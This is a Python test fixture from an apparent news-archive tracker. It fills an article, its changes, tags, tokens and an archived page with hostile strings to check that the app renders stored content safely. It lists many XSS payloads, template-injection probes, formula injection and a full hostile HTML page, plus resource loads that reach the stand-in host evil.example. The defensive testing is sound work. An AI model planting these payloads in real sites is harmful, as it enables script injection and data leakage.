"""Articles written to break out of a page: texts, and pages of markup, each to be stored and shown everywhere.

What runs sets `ran` on some window; what reaches out asks for `evil.example`, which leads nowhere, or for a port of this machine.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy import Engine

from db.archive.record import encode, payload_digest
from db.archive.segments import Segment
from db.engine import writing
from db.models import Revision
from db.queries import (
    changes,
    channels,
    crawls,
    deliveries,
    hiding,
    pages,
    revisions,
    sources,
    tags,
    templates,
    tokens,
    triage,
    views,
)
from db.types import Article, Block, Change, Dateline, Fetched, Notice

OUT = "//evil.example"

TEXTS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    f"<img src={OUT}/a.png srcset='{OUT}/b.png 2x'>",
    "<svg onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><script href=data:,window.ran=1 /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "</script><script>window.ran=1</script>",
    "</title></style></textarea></template></noscript><script>window.ran=1</script>",
    "<!--><script>window.ran=1</script-->",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "'\"><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    '" onmouseover=window.ran=1 onfocus=window.ran=1 autofocus x="',
    "' style='background:url(//evil.example/c)' x='",
    "`onclick=window.ran=1",
    "javascript:window.ran=1",
    "java\tscript:window.ran=1",
    "&#106;avascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.ran=1')()}}",
    "<a href='javascript:window.ran=1' id=help>x</a><form id=triage action=//evil.example><input name=state>",
    "<a id=keys></a><a id=keys name=click>clobbered</a><img name=getElementById>",
    f"<style>@import '{OUT}/d.css';*{{display:none;background:url({OUT}/e)}}</style><link rel=stylesheet href={OUT}/f.css>",
    f"<base href={OUT}><meta http-equiv=refresh content='0;url={OUT}'><link rel=prefetch href={OUT}/g>",
    f"<object data={OUT}/h></object><embed src={OUT}/i><video src={OUT}/j autoplay></video><audio src={OUT}/k></audio>",
    f"<input type=image src={OUT}/l><table background={OUT}/m><body background={OUT}/n><isindex prompt=x>",
    "\u202egnp.exe\u202c \u2066right\u2069 \u200f\u061c\u2067to left",
    "Z\u0351\u036b\u0343a\u0321\u034alg\u0338o" + "\u0301" * 300,
    "W" * 5000,
    "\u3042" * 2000,
    "\x01\x1b[31mred\x1b]0;title\x07\x7f\x9b31m",
    "\ufffe\uffff\U000e0001\U000e0041\u2028\u2029",
    "=HYPERLINK(\"//evil.example\")|' /C calc'!A0",
)

PAGE = f"""<!doctype html><html manifest="{OUT}/manifest" lang="en" onload="parent.ran=1">
<head><base href="{OUT}/"><meta http-equiv="refresh" content="0;url={OUT}/refreshed"><title>x</title>
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="Set-Cookie" content="form=x">
<link rel="stylesheet" href="{OUT}/s.css"><link rel="preload" as="script" href="{OUT}/p.js"><link rel="icon" href="{OUT}/i">
<link rel="dns-prefetch" href="{OUT}"><style>@import "{OUT}/i.css"; body {{ background: url({OUT}/b) }}</style>
<script>window.ran=1;parent.ran=1;top.ran=1;document.cookie="form=x"</script><script src="{OUT}/x.js"></script>
<script type="module">top.ran=1</script><script type="text/javascript" src="data:,top.ran=1"></script></head>
<body onload="top.ran=1" onpageshow="top.ran=1" background="{OUT}/bg" style="background:url({OUT}/st)">
<h1 onclick="top.ran=1" style="position:fixed;inset:0" id="help">Copy</h1><p>Words of the story stay.</p>
<a href="javascript:top.ran=1">a</a><a href="{OUT}" ping="{OUT}/ping" target="_top">b</a><area href="javascript:top.ran=1">
<form action="{OUT}/form" method="post"><input autofocus onfocus="top.ran=1" name="form_token">
<button formaction="{OUT}">x</button>
<isindex action="{OUT}"></form><iframe src="{OUT}/frame" onload="top.ran=1"></iframe>
<iframe srcdoc="&lt;script&gt;top.ran=1&lt;/script&gt;"></iframe><iframe src="javascript:top.ran=1"></iframe>
<frameset><frame src="{OUT}/fs"></frameset><object data="{OUT}/o" type="text/html"></object><embed src="{OUT}/e">
<applet code="{OUT}/a"></applet><img src="{OUT}/img" onerror="top.ran=1"><picture><source srcset="{OUT}/sc"></picture>
<video src="{OUT}/v" poster="{OUT}/po" autoplay onplay="top.ran=1"><track src="{OUT}/t"></video><audio src="{OUT}/au"></audio>
<svg onload="top.ran=1"><script>top.ran=1</script><use href="{OUT}/u#x"/><image href="{OUT}/si"/><foreignObject>
<iframe src="{OUT}/fo"></iframe></foreignObject><a xlink:href="javascript:top.ran=1"><text>x</text></a>
<animate onbegin="top.ran=1" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:top.ran=1"/></svg>
<math href="javascript:top.ran=1">
<mtext><table><mglyph><style><img src onerror="top.ran=1"></style></mglyph></table></mtext></math>
<template><script>top.ran=1</script></template><noscript><p title="</noscript><img src onerror=top.ran=1>"></noscript>
<details open ontoggle="top.ran=1"><summary>x</summary></details><marquee onstart="top.ran=1">x</marquee>
<dialog open oncancel="top.ran=1">x</dialog><div popover onbeforetoggle="top.ran=1">x</div><portal src="{OUT}/portal"></portal>
<xmp><script>top.ran=1</script></xmp><plaintext><script>top.ran=1</script>
"""


def poison(engine: Engine, folder: Path, texts: Sequence[str] = TEXTS, page: str = PAGE) -> int:
    """An article whose every word is hostile, with changes, notes, tags, views, tokens, crawls and an archived page to match.

    The home is a seeded one, whose first version gets the same archived page. Gives the article's version.
    """
    now = datetime.now(UTC)
    every = " ".join(texts)
    body = page.encode("utf-8", "replace")
    with writing(engine) as session:
        source = sources.ensure(session, texts[0], now)
        found = pages.add(session, source.id, "https://harbour.example/?q=<script>", "harbour.example", now)
        headers = (("Content-Type", "text/html; charset=utf-8"), ("X", every), ("Set-Cookie", "session=secret"))
        fetched = Fetched(found.url, found.url, 200, headers, body, b"", now, now)
        segment = Segment(folder, "keep", "1")
        made = encode(fetched)
        ref = segment.append(made.around, made.member, payload_digest(body))
        segment.close()
        when = {"not_before": now, "not_after": now}
        stored = {"reading_digest": "x", "reader_version": "v", "ref": ref}
        version = revisions.add(session, found.id, _article(found.url, texts), **stored, **when)
        first = session.get(Revision, 1)
        assert first
        first.segment, first.offset, first.length, first.digest = ref.segment, ref.offset, ref.length, ref.digest
        for number, text in enumerate(texts):
            change = Change("headline", ("reworded",), "substantive", text, every, facts=(text,))
            key = {"key": f"h{number}", "headline": every, "now": now, "revision_after": version.id}
            change_id = changes.add(session, found.id, source.id, change, **key, **when)
            assert change_id
            triage.annotate(session, change_id, text, at=now)
            tags.put(session, change_id, tags.tidy(text))
        crawls.add_items(session, crawls.add(session, [every], {}, texts[0][:80], now), [every])
        hiding.add(session, "tags", None, now=now, page_id=found.id, by=texts[0][:80])
        views.save(session, texts[0][: views.LONGEST], {"match": texts[1]}, now)
        channels.declare(session, [("hook", "webhook", every, texts)])
        channels.record(session, "hook", failures=1, last_error=every)
        deliveries.add(session, 1, "hook", now)
        templates.add_event(session, source.id, 7, change, first_at=now, last_at=now, compared=9)
        templates.note(session, change_id, source_id=source.id, page_id=found.id, print_=7, at=now)
        tokens.add(session, texts[0][:80], "0" * 64, {"read"}, now=now, until=None)
    return version.id


def _article(url: str, texts: Sequence[str]) -> Article:
    every = " ".join(texts)
    blocks = tuple(Block(role, text) for text in texts for role in ("paragraph", "heading", "quote", "caption"))
    return Article(
        url,
        headline=every,
        headlines={"h1": every, texts[0]: every},
        deck=every,
        byline=every,
        authors=tuple(texts),
        dateline=Dateline(every, texts[0]),
        published=texts[0],
        modified=texts[1],
        displayed_time=every,
        language=texts[0],
        tags=tuple(texts),
        notices=tuple(Notice("correction", text) for text in texts),
        body=blocks,
    )
